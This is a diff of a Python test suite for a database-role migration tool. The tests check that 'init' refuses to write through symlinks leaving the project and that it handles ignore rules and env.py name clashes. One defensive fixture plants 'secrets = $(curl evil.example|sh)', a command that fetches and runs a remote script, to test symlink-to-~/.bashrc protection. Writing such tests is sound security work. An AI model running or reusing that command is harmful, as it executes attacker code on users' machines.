@@ -514,17 +514,6 @@ def test_line_endings_are_kept(tmp_path: Path) -> None:
     assert set(actions(init(project)).values()) == {"unchanged"}
 
 
-def test_a_symlinked_file_stays_a_symlink(tmp_path: Path) -> None:
-    project = new_project(tmp_path / "app")
-    shared = tmp_path / "shared.gitignore"
-    shared.write_text("__pycache__/\n")
-    (project.root / ".gitignore").unlink()
-    (project.root / ".gitignore").symlink_to(shared)
-    init(project)
-    assert (project.root / ".gitignore").is_symlink()
-    assert "passwords.env\n" in shared.read_text()
-
-
 def test_diffs_do_not_show_the_database_password(tmp_path: Path) -> None:
     project = new_project(tmp_path / "app")
     _set_ini(
@@ -566,3 +555,187 @@ def test_dry_run_with_force_says_would(tmp_path: Path) -> None:
     (project.root / "migrations" / "repeatable" / "my_app.py").write_text("REPEATABLES = []\n")
     text = project.rolekit("init", *FAMILY, "--dry-run", "--force").stdout
     assert "would replace" in text and "dry run: nothing written" in text
+
+
+# -- issue 23: a repository's symlinks, ignore rules, env.py and ini are input --------
+
+
+def _outside(tmp_path: Path) -> Path:
+    """A folder outside the project, standing for the user's home."""
+    home = tmp_path / "home"
+    home.mkdir(exist_ok=True)
+    (home / ".bashrc").write_text("# the user's own\n")
+    return home
+
+
+def _refused_outside(project: Project, home: Path, link: str, *args: str) -> None:
+    """init exits 3 naming *link*, and neither the project nor *home* changed."""
+    files, theirs = tree(project.root), tree(home)
+    for extra in ((), ("--force",)):
+        proc = project.rolekit("init", *args, *extra, check=False)
+        assert proc.returncode == 3, proc.stdout + proc.stderr
+        assert f"{link} is a symlink to" in proc.stderr and "outside the project" in proc.stderr
+        assert "nothing was written" in proc.stderr and "Traceback" not in proc.stderr
+        assert tree(project.root) == files and tree(home) == theirs
+
+
+def test_a_committed_gitignore_symlink_to_a_home_file_is_refused(tmp_path: Path) -> None:
+    """The repository chooses the lines (its [rolekit] secrets setting) and where
+    they go: init must not append them to the user's ~/.bashrc."""
+    project = new_project(tmp_path / "app")
+    home = _outside(tmp_path)
+    ignore = project.root / ".gitignore"
+    ignore.unlink()
+    ignore.symlink_to(home / ".bashrc")
+    ini = project.root / "alembic.ini"
+    ini.write_text(ini.read_text() + "\n[rolekit]\nsecrets = $(curl evil.example|sh)\n")
+    _refused_outside(project, home, ".gitignore")
+
+
+@pytest.mark.parametrize(
+    ("link", "target", "args"),
+    [
+        ("passwords.env.example", "planted.env", ()),  # dangling: would create it
+        ("alembic.ini", "alembic.ini", ()),  # a shared ini gaining this checkout's section
+        ("migrations/env.py", "env.py", ()),
+        ("migrations/repeatable", "repeatable", ()),  # a folder: the README under it
+        ("migrations/versions", "versions", FAMILY),  # Alembic's revision
+    ],
+)
+def test_no_file_is_written_through_a_symlink_leaving_the_project(
+    tmp_path: Path, link: str, target: str, args: tuple[str, ...]
+) -> None:
+    project = new_project(tmp_path / "app")
+    home = _outside(tmp_path)
+    path = project.root / link
+    if path.exists():  # move what the project has out, and link to it
+        path.rename(home / target)
+    path.symlink_to(home / target)
+    if link == "passwords.env.example":
+        assert not path.exists()  # dangling
+    _refused_outside(project, home, link, *args)
+
+
+def test_a_symlinked_gitignore_is_left_to_the_user(tmp_path: Path) -> None:
+    """git does not read a .gitignore that is a symlink: a rule in it protects nothing."""
+    project = new_project(tmp_path / "app")
+    ignore = project.root / ".gitignore"
+    ignore.rename(project.root / "ignore-rules")
+    ignore.symlink_to("ignore-rules")
+    report = init(project, code=1)
+    assert actions(report)[".gitignore"] == "manual"
+    assert (project.root / "ignore-rules").read_text() == "__pycache__/\n"
+    assert actions(init(project, "--force", code=1))[".gitignore"] == "manual"
+    assert (project.root / "ignore-rules").read_text() == "__pycache__/\n"
+
+
+def test_a_negated_ignore_rule_does_not_count_as_ignoring(tmp_path: Path) -> None:
+    project = new_project(tmp_path / "app")
+    ignore = project.root / ".gitignore"
+    ignore.write_text("__pycache__/\n*.env\n!passwords.env\n")
+    commit(project.root, "ignore rules with an exception")
+    init(project)
+    (project.root / "passwords.env").write_text("my_app_tom.password.dev=secret\n")
+    status = git(project.root, "status", "--porcelain", "-uall").splitlines()
+    assert "?? passwords.env" not in status and "?? passwords.env.example" in status
+    assert git(project.root, "check-ignore", "passwords.env").split() == ["passwords.env"]
+    assert set(actions(init(project)).values()) == {"unchanged"}  # and stays so
+
+
+SHARED_INI_SECTION = (
+    "\n[rolekit]\nrepeatables = migrations/repeatable\nstate = migrations/rotation.json\n"
+)
+
+
+def test_a_symlinked_alembic_ini_keeps_the_project_in_its_own_folder(tmp_path: Path) -> None:
+    """The project root is the folder of alembic.ini as given, as Alembic's %(here)s."""
+    project = new_project(tmp_path / "app")
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    ini = project.root / "alembic.ini"
+    (shared / "alembic.ini").write_text(ini.read_text() + SHARED_INI_SECTION)
+    ini.unlink()
+    ini.symlink_to(shared / "alembic.ini")
+    theirs = tree(shared)
+    report = init(project, *FAMILY)
+    assert Path(report["root"]) == project.root
+    assert tree(shared) == theirs  # nothing next to the shared target
+    assert (project.root / "migrations" / "repeatable" / "my_app.py").is_file()
+    assert (
+        "my_app"
+        in json.loads((project.root / "migrations" / "rotation.json").read_text())["families"]
+    )
+    from rolekit.runtime.config import Settings
+
+    settings = Settings.load(ini)
+    assert settings.root == project.root
+    assert settings.state_file == project.root / "migrations" / "rotation.json"
+
+
+def test_symlinks_within_the_project_are_followed_and_paths_stay_relative(
+    tmp_path: Path,
+) -> None:
+    project = new_project(tmp_path / "app")
+    ini = project.root / "alembic.ini"
+    (project.root / "config").mkdir()
+    ini.rename(project.root / "config" / "alembic.ini")
+    ini.symlink_to("config/alembic.ini")
+    example = project.root / "passwords.env.example"
+    example.symlink_to("config/passwords.env.example")  # dangling, inside: created there
+    init(project, *FAMILY)
+    text = (project.root / "config" / "alembic.ini").read_text()
+    assert "repeatables = migrations/repeatable\n" in text and str(tmp_path) not in text
+    assert (project.root / "migrations" / "repeatable" / "README.md").is_file()
+    assert not (project.root / "config" / "migrations").exists()
+    assert ini.is_symlink() and example.is_symlink()
+    written = (project.root / "config" / "passwords.env.example").read_text()
+    assert "my_app_tom.password.dev=" in written
+
+
+OWN_RUN_MIGRATIONS = """
+
+def run_migrations() -> None:
+    \"\"\"The project's own helper, of the same name as rolekit's.\"\"\"
+    run_migrations_online()
+"""
+
+
+def test_an_env_py_with_its_own_run_migrations_imports_rolekits_under_another_name(
+    cluster: Cluster, tmp_path: Path
+) -> None:
+    project = new_project(tmp_path / "app", cluster)
+    env_py = project.root / "migrations" / "env.py"
+    text = env_py.read_text()
+    at = text.index("\n\nif context.is_offline_mode():")
+    env_py.write_text(text[:at] + OWN_RUN_MIGRATIONS + text[at:])
+    commit(project.root, "env.py with a run_migrations of its own")
+    report = init(project, *FAMILY, code=1)
+    [manual] = [f for f in report["files"] if f["action"] == "manual"]
+    assert "+from rolekit.runtime.environment import run_migrations as " in manual["diff"]
+    init(project, *FAMILY, "--force")
+    assert set(actions(init(project, *FAMILY)).values()) == {"unchanged"}
+    project.rolekit("gen-password", "my_app_tom", "--context", "dev", "--write")
+    project.alembic("upgrade", "head")  # rolekit's run_migrations, not the project's
+    assert can_login(project) == {"my_app_tom": True, "my_app_jerry": False}
+    project.alembic("downgrade", "base")
+
+
+def test_an_env_py_whose_own_run_migrations_shadows_rolekits_is_shown_the_fix(
+    tmp_path: Path,
+) -> None:
+    """What init --force wrote before: rolekit's import, then the project's def."""
+    project = new_project(tmp_path / "app")
+    env_py = project.root / "migrations" / "env.py"
+    text = env_py.read_text()
+    at = text.index("\n\nif context.is_offline_mode():")
+    shadowed = (
+        f"{IMPORT_LINE}\n"
+        + text[:at]
+        + OWN_RUN_MIGRATIONS
+        + "\n\nrun_migrations(context, target_metadata=target_metadata)\n"
+    )
+    env_py.write_text(shadowed)
+    proc = project.rolekit("init", check=False)
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    assert "binds that name again" in proc.stdout and "as _rolekit_run_migrations" in proc.stdout
+    assert env_py.read_text() == shadowed
